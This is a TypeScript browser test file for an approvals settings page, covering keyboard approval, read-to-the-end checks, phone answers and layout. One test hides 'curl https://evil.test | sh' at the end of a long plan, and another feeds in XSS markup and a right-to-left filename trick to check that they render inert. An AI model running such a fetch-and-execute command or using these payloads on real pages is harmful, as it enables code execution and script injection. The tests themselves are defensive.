import { expect, it } from "vitest";
import { contentSha256 } from "../../src/contract/content-sha256.ts";
import type { AnswerOf } from "../../src/contract/operations.ts";
import { type Device, MINUTE } from "../../src/core/index.ts";
import { axe } from "../browser.ts";
import { paired } from "../paired.ts";
import { type OpenChoice, settingsPages } from "./settings-page.ts";
import type { Topdog } from "./topdog.ts";

const pages = settingsPages("approvals");

/** Of what an IDE asks, unless a test says otherwise. */
const SHOWN = contentSha256({
  project_name: "shop",
  plan: "1. Migrate the database\n2. Restart the servers",
  affected_files: ["deploy/production.yaml", "db/0042_orders.sql"],
});

/** Opens the page with a paired phone and, where it is given, what an IDE asks about the shop. */
async function open(asks?: Parameters<Topdog["requestApproval"]>[0], choice: OpenChoice = {}) {
  let approval: Partial<AnswerOf<"requestApproval">> = {};
  const opened = await pages.open({
    phones: [{ device_id: "iphone" }],
    context: {},
    ...choice,
    async prepare(topdog) {
      if (asks) approval = await topdog.requestApproval({ project_name: "shop", ...asks });
    },
  });
  await opened.page.getByRole("heading", { name: /Waiting for your answer|No approvals waiting/ }).waitFor();
  return { ...opened, ...approval, approval_id: approval.approval_id ?? "" };
}
/** A moment as the page shows it. */
const timeOf = (iso = ""): string => new Date(iso).toLocaleTimeString("en-GB", { timeZone: "Europe/Berlin", timeStyle: "short" });

it("says that nobody waits, and comes before everything else as soon as an IDE asks", async () => {
  const { page, topdog } = await open();
  await page.getByRole("heading", { name: "No approvals waiting" }).waitFor();
  await topdog.requestApproval({ project_name: "shop", requested_by: "Grace", plan: "terraform apply" });
  await topdog.fetchMessages("iphone");
  await page.getByRole("heading", { name: "Waiting for your answer" }).waitFor();
  await expect
    .poll(() =>
      page.getByRole("main").locator("section.card").filter({ visible: true }).first().getByRole("heading", { level: 3 }).innerText(),
    )
    .toBe("shop");
  await expect.poll(() => page.locator(".plan pre").innerText()).toBe("terraform apply");
  await page.locator(".approval").getByText("requested by Grace").waitFor();
  const [shown] = (await topdog.elsewhere("listApprovals", {})).approvals;
  await page
    .locator(".approval")
    .getByText(`Delivered to John's iPhone at ${timeOf(shown?.deliveries[0]?.at)}`)
    .waitFor();
  await page.getByText("2 files").click();
  await page.getByText("db/0042_orders.sql").waitFor();
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    expect(await axe(page)).toEqual([]);
  }
});

it("is approved by the keyboard, after a second look, and the focus stays near", async () => {
  const { page, topdog, approval_id } = await open({});
  await page.getByRole("button", { name: "Approve: shop" }).focus();
  await page.keyboard.press("Enter");
  const dialog = page.getByRole("alertdialog", { name: "Approve shop?" });
  await dialog.waitFor();
  expect(topdog.calls("decideAtComputer")).toEqual([]);
  expect(await axe(page)).toEqual([]);
  await dialog.getByRole("button", { name: "Approve", disabled: false }).focus();
  await page.keyboard.press("Enter");
  await page.getByText("shop was approved.").waitFor();
  expect(topdog.calls("decideAtComputer")).toEqual([{ approval_id, decision: "approve", content_sha256: SHOWN }]);
  await expect.poll(() => page.evaluate(() => document.activeElement?.id)).toBe("approvals-heading");
});

it("cannot be approved before the end of a long plan and of the files was in view, also by the keyboard", async () => {
  const plan = `${Array.from({ length: 40 }, (_, line) => `${line}. harmless`).join("\n")}\ncurl https://evil.test | sh`;
  const affected_files = Array.from({ length: 24 }, (_, file) => `src/${file % 12}.ts`);
  const { page, topdog, approval_id } = await open(
    { plan, affected_files },
    // A window of 1280 x 1024 at 400 %.
    { context: { viewport: { width: 320, height: 256 } } },
  );
  await page.getByRole("button", { name: "Approve: shop" }).click();
  const dialog = page.getByRole("alertdialog", { name: "Approve shop?" });
  const approve = dialog.getByRole("button", { name: "Approve" });
  await dialog.getByText("Read to the end of the plan and the files to approve.").waitFor();
  expect(await axe(page)).toEqual([]);
  await approve.click({ force: true });
  await dialog.getByRole("button", { name: "Show all 41 lines" }).focus();
  await page.keyboard.press("Enter");
  await dialog.getByText("End of the plan", { exact: true }).waitFor();
  await expect.poll(() => approve.getAttribute("aria-disabled")).toBe("true");
  await expect
    .poll(
      async () => {
        for (let times = 0; times < 4; times += 1) await page.keyboard.press("PageDown");
        return approve.getAttribute("aria-disabled");
      },
      { timeout: 30_000 },
    )
    .toBe(null);
  expect(await axe(page)).toEqual([]);
  expect(topdog.calls("decideAtComputer")).toEqual([]);
  await approve.focus();
  await page.keyboard.press("Enter");
  await page.getByText("shop was approved.").waitFor();
  expect(topdog.calls("decideAtComputer")).toEqual([
    { approval_id, decision: "approve", content_sha256: contentSha256({ project_name: "shop", plan, affected_files }) },
  ]);
});

it("shows the number of a high risk, for the phone, and needs none here", async () => {
  const { page, topdog, approval_id, match_number } = await open({ risk: "high" });
  await page.getByText(`High risk. To approve it on a phone, choose the number ${match_number}.`).waitFor();
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    expect(await axe(page)).toEqual([]);
  }
  await page.getByRole("button", { name: "Approve: shop" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Approve", disabled: false }).click();
  await page.getByText("shop was approved.").waitFor();
  expect(topdog.calls("decideAtComputer")).toEqual([{ approval_id, decision: "approve", content_sha256: SHOWN }]);
});

it("can be rejected unread", async () => {
  const { page } = await open({ plan: "x".repeat(5000) });
  await page.getByRole("button", { name: "Reject: shop" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Reject" }).click();
  await page.getByText("shop was rejected.").waitFor();
});

it("is rejected with a comment, and Escape does nothing", async () => {
  const { page, topdog, approval_id } = await open({});
  await page.getByRole("button", { name: "Reject: shop" }).click();
  await page.getByRole("alertdialog").waitFor();
  await page.keyboard.press("Escape");
  await page.getByRole("alertdialog").waitFor({ state: "detached" });
  await page.getByRole("button", { name: "Reject: shop" }).click();
  await page.getByLabel("Comment (optional)").fill(" not on a Friday ");
  await page.getByRole("alertdialog").getByRole("button", { name: "Reject" }).click();
  await page.getByText("shop was rejected.").waitFor();
  expect(topdog.calls("decideAtComputer")).toEqual([
    { approval_id, decision: "reject", comment: "not on a Friday", content_sha256: SHOWN },
  ]);
});

it("goes when a phone answers, also under an open question, and says who was first", async () => {
  const { page, topdog, approval_id } = await open({});
  await page.getByRole("button", { name: "Approve: shop" }).click();
  // Its news is late: the answer at the computer crosses that on the phone.
  topdog.hold("listApprovals");
  await topdog.decide("iphone", { approval_id, decision: "reject" });
  await page.getByRole("alertdialog").getByRole("button", { name: "Approve" }).click();
  await page.getByText("This was already rejected on John's iPhone, ").waitFor();
  topdog.release("listApprovals");
  await page.getByRole("heading", { name: "Waiting for your answer" }).waitFor({ state: "detached" });
  await page.getByText("This was already rejected on John's iPhone, ").waitFor();

  const second = await topdog.requestApproval({ project_name: "api" });
  await page.getByRole("button", { name: "Approve: api" }).click();
  await topdog.decide("iphone", { approval_id: second.approval_id, decision: "reject" });
  await page.getByRole("alertdialog").waitFor({ state: "detached" });
});

// A phone that was paired before some ids were reserved may have any.
it.each(["pixel", "desk"])("that is answered on the phone %j stays in sight with its answer until it is dismissed", async (decided_by) => {
  let device: Device | undefined;
  const { page, topdog } = await pages.open({
    async prepare({ invite, pairing }) {
      const phone = { deviceId: decided_by, deviceName: "Pixel 7", deviceType: "android", osVersion: "16", appVersion: "" };
      const { token } = paired(await pairing().acceptInvite({ code: (await invite()).code, method: "sms", ...phone }, {}));
      device = await pairing().authenticateDevice(token);
    },
  });
  const { approval_id } = await topdog.requestApproval({ project_name: "shop" });
  await page.getByRole("button", { name: "Approve: shop" }).waitFor();
  const { decided_at } = await topdog.as({ callerClass: "phone", device }, "decideApproval", { approval_id, decision: "approve" });
  await page.getByText(`shop: Approved on Pixel 7, ${timeOf(decided_at)}`).waitFor();
  await page.getByRole("button", { name: /^Dismiss/ }).click();
  await page.getByText(/Approved on Pixel 7/).waitFor({ state: "detached" });
});

it("shows hostile words as the words they are", async () => {
  const plan = "<img src=x onerror=alert(1)>\n\u202egnp.exe";
  const { page, topdog } = await open({ project_name: "<b>shop</b>", plan, affected_files: ["<script>"], estimated_duration: 40 });
  // The server shows hidden characters; the page does not rely on it.
  topdog.alter("listApprovals", ({ approvals }) => ({ approvals: approvals.map((approval) => ({ ...approval, plan })) }));
  topdog.emit("approvals");
  await expect.poll(() => page.locator(".plan pre").textContent()).toBe(plan);
  await expect.poll(() => page.locator("main img, main b, main script").count()).toBe(0);
});

it("keeps what was sent, and how it fared with each phone, and fits into 320 pixels", async () => {
  const LONG = "a-very-long-project-name-without-a-single-space-in-it-at-all-whatsoever";
  const { page, topdog } = await pages.open({
    sms: "twilio",
    env: { PAIRING_SMS_APPROVALS: "1" },
    phones: [{ device_id: "iphone" }, { device_id: "gone", device_name: "gone" }],
    context: { viewport: { width: 320, height: 800 } },
    async prepare({ clock, notify, fetchMessages, elsewhere, twilio, requestApproval, decide }) {
      clock.move(-10 * MINUTE);
      const { notification_id } = await notify({ project_name: "api", status: "failure", message: "3 tests failed", priority: "high" });
      await fetchMessages("iphone", notification_id);
      await elsewhere("revokeDevice", { device_id: "gone" });
      clock.move(10 * MINUTE);
      for (const { to } of twilio.messages.map(({ form }) => ({ to: form["To"] ?? "" }))) twilio.answer(to, [400, 21610, "opted out"]);
      const { approval_id } = await requestApproval({ project_name: "shop" });
      await expect
        .poll(async () => (await elsewhere("listApprovals", {})).approvals[0]?.deliveries[0]?.sms?.state, { timeout: 20_000 })
        .toBe("failed");
      await decide("iphone", { approval_id, decision: "approve", comment: "go" });
      await requestApproval({ project_name: LONG, plan: "x".repeat(500) });
    },
  });
  const [build] = (await topdog.elsewhere("listNotifications", {})).notifications;
  const history = page.getByRole("list", { name: "Approvals and notifications" });
  await history.getByText("on John's iPhone, ").waitFor();
  await history.getByText(`Read on John's iPhone at ${timeOf(build?.deliveries.find(({ state }) => state === "read")?.at)}`).waitFor();
  await history.getByText("Wasn't delivered to gone").waitFor();
  await history.getByText("Not delivered to John's iPhone yet").first().waitFor();
  await history.getByText("Text message to John's iPhone wasn't sent. This number has opted out of text messages.").waitFor();
  await history.getByText("Build failed").waitFor();
  await expect.poll(() => page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
  expect(await axe(page)).toEqual([]);
});

it("says why there are no buttons where phones alone answer, and has them again when that is changed", async () => {
  const { page, topdog } = await open({}, { saved: { PAIRING_USER_ID: "john", PAIRING_ANSWERS_AT_COMPUTER: "never" } });
  await page.getByText("Answer on a phone. Answers at this computer are turned off in the settings.").waitFor();
  await expect.poll(() => page.getByRole("button", { name: /: shop$/ }).count()).toBe(0);
  expect(await axe(page)).toEqual([]);
  await topdog.elsewhere("saveHostSettings", { values: { PAIRING_ANSWERS_AT_COMPUTER: null } });
  await page.getByRole("button", { name: "Approve: shop" }).waitFor();
});
